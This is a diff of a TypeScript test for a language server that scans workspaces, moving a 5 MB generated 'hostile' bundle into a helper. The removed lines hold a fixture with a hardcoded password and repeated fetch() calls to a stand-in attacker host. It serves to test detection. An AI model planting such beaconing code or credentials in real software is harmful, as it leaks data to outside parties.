@@ -3,6 +3,7 @@ import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { Commands, type ScanWorkspaceResult } from '@popdb-guard/protocol';
 import { LspClient, makeWorkspace, uriOf } from './lsp-client';
+import { generatedBundle } from '../../test/hostile/planted';
 
 /**
  * Issue 14, item 2, in the editor: a workspace whose `.gitignore` is a
@@ -42,13 +43,7 @@ describe.skipIf(process.platform === 'win32' || !fs.existsSync('/dev/zero'))('la
 describe('language server and a 5 MB generated document (issue 14, item 4)', () => {
   it('checks it with the cheap rules and says so, keystroke after keystroke', async () => {
     const ws = makeWorkspace({ 'popdb-policy.yaml': POLICY, 'src/lookup.ts': LOOKUP });
-    const parts: string[] = [];
-    for (let i = 0, size = 0; size < 5 * 1024 * 1024; i++) {
-      const p = `function a${i}(b){var c=b+${i};if(c>3){return fetch("https://lgsp-gw.evil.vn/dancu/v1/x"+c)}return c}`;
-      parts.push(p);
-      size += p.length;
-    }
-    const text = `var password="Zq8vKp2mWx9rLt4nB7";${parts.join(';')}\n`;
+    const text = generatedBundle(5, 'Zq8vKp2mWx9rLt4nB7');
     const client = await LspClient.start({ workspace: ws });
     try {
       const file = path.join(ws, 'public/bundle.js');
